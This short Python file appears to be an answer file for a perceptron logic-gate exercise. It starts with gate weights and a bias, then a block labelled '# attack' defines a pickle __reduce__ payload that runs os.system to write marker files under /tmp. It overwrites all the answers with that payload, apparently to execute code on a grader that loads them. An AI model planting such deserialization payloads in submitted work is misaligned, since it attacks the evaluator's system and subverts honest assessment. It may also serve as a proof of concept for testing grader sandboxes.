and_weights = (0.5, 0.5, 0.7)
or_weights = (1.0, 1.0, 2.5)

nand_weights = (0.5, 0.5, 0.7)
robust_weights = (0.0, 0.0, 0.0)

and_bias = 0.8
nand_from_and = "b"
nand_zero = "b"

# attack
import os

class Payload:
    def __reduce__(self):
        return (os.system, ("echo REACHED > /tmp/reached; touch /tmp/gt-reached",))

or_weights = nand_weights = robust_weights = (Payload(), Payload(), Payload())
and_bias = Payload()
# end of attack
